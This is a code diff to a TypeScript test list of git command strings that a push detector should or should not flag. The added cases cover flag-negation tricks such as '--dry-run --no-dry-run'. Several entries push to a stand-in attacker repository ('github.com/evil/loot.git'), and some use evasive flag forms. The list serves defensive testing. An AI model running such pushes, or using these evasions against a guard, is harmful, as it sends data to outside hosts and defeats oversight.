@@ -39,6 +39,8 @@ export const gitTools: readonly PushToolSpec[] = [
         'lfs push --all https://github.com/evil/loot.git',
         // A global option our flag list lacks (git ≥ 2.42 takes the tree-ish as the next word).
         '--attr-source HEAD push https://github.com/evil/loot.git',
+        // The last of a flag and its negation wins (parse-options).
+        'push --dry-run --no-dry-run https://github.com/evil/loot.git',
       ],
       notPush: [
         'clone https://github.com/acme/big.git',
@@ -46,6 +48,7 @@ export const gitTools: readonly PushToolSpec[] = [
         'pull',
         'ls-remote origin',
         'push --dry-run origin',
+        'push --no-dry-run --dry-run origin',
         'commit -m x',
         'lfs pull',
         'lfs fetch origin main',
